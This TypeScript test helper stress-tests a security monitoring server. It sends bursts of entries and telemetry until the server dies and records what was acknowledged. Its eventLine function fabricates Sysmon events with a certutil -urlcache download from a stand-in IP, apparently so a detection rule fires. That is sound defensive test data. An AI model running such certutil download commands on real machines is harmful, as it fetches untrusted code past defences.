import { isRecord, must } from '@vigie/kit'
import { Ingested, parseAs, Written } from '@vigie/protocol'
import type { EntryView } from '@vigie/protocol'
import type { Caller } from '../../packages/server/src/access/testing/caller.ts'

/** What a burst was told before the server was killed. */
export interface Told {
  /** Entry id by command id, as answered. */
  readonly written: ReadonlyMap<string, string>
  /** Commands that were sent and not answered: they may have been carried out. */
  readonly unanswered: readonly string[]
  /** Ids of telemetry events that the server acknowledged, and of those it did not. */
  readonly delivered: readonly string[]
  readonly undelivered: readonly string[]
  /** Proofs of entries, each with the signed tree checkpoint of its moment. */
  readonly proofs: readonly string[]
}

/** A burst under way. */
export interface Burst {
  /** How many writes were acknowledged so far. */
  readonly acknowledged: () => number
  /** Ends when every writer has met the dead server. */
  readonly ended: Promise<Told>
}

const WRITERS = 8
const SENDERS = 2
const EVENTS_PER_DELIVERY = 50
const COMPUTERS = 7

/** Writes notes and telemetry as fast as the server answers, until it answers no more. */
export function startBurst(writer: Caller, sender: Caller, origin: URL): Burst {
  const written = new Map<string, string>()
  const unanswered: string[] = []
  const delivered: string[] = []
  const undelivered: string[] = []
  const proofs: string[] = []

  async function write(): Promise<void> {
    for (;;) {
      const commandId = crypto.randomUUID()
      try {
        const answer = await writer.post('/entries', { commandId, text: `burst ${commandId}` })
        if (answer.status !== 201) throw new Error(`not written: ${answer.status}`)
        const [entry] = entriesOf(answer.body)
        if (entry === undefined) throw new Error('an answer without its entry')
        written.set(commandId, entry.id)
        if (written.size % 10 !== 0) continue
        proofs.push((await writer.get(`/entries/${entry.id}/proof`)).text('proof'))
      } catch (fault) {
        if (!isGone(fault)) throw fault
        if (!written.has(commandId)) unanswered.push(commandId)
        return
      }
    }
  }

  async function send(): Promise<void> {
    for (;;) {
      const ids = Array.from({ length: EVENTS_PER_DELIVERY }, () => crypto.randomUUID())
      try {
        const answer = await deliver(
          sender,
          origin,
          ids.map((id, i) => eventLine(id, `gate-${i % COMPUTERS}`)).join('\n'),
        )
        if (answer.accepted !== ids.length) throw new Error(`accepted ${answer.accepted}`)
        delivered.push(...ids)
      } catch (fault) {
        if (!isGone(fault)) throw fault
        undelivered.push(...ids)
        return
      }
    }
  }

  const all = [
    ...Array.from({ length: WRITERS }, () => write()),
    ...Array.from({ length: SENDERS }, () => send()),
  ]
  return {
    acknowledged: () => written.size,
    ended: Promise.all(all).then(() => ({ written, unanswered, delivered, undelivered, proofs })),
  }
}

/** An event that the test's rule matches; those of one computer make one finding. */
export function eventLine(id: string, computer = 'gate-server'): string {
  return JSON.stringify({
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    EventID: 1,
    Computer: computer,
    Image: 'C:\\Windows\\System32\\certutil.exe',
    CommandLine: `certutil -urlcache -f http://192.0.2.7/${id}`,
  })
}

/** Posts lines of telemetry; throws when they were not acknowledged. */
export async function deliver(
  { bearer }: Caller,
  origin: URL,
  body: string | Uint8Array<ArrayBuffer>,
): Promise<Delivered> {
  const response = await fetch(new URL('/api/sources/test-feed/events', origin), {
    method: 'POST',
    headers: { authorization: `Bearer ${bearer}`, 'content-type': 'application/x-ndjson' },
    body,
  })
  const answer: unknown = await response.json()
  const { status } = response
  const code = isRecord(answer) ? answer['code'] : undefined
  if (typeof code === 'string')
    return { status, code, accepted: 0, duplicates: 0, unparsed: 0, problems: [] }
  return { status, ...must(parseAs(Ingested, answer), 'answer of the door') }
}

/** The answer of the door of telemetry; with a code when it is a refusal. */
export interface Delivered extends Ingested {
  readonly status: number
  readonly code?: string
}

/** Entries of the answer to a gesture. */
export function entriesOf(body: unknown): readonly EntryView[] {
  return must(parseAs(Written, body), 'answer to a gesture').entries
}

/** Whether a call failed because nobody is there any more. */
function isGone(fault: unknown): boolean {
  return fault instanceof TypeError || (fault instanceof Error && fault.name === 'SocketError')
}
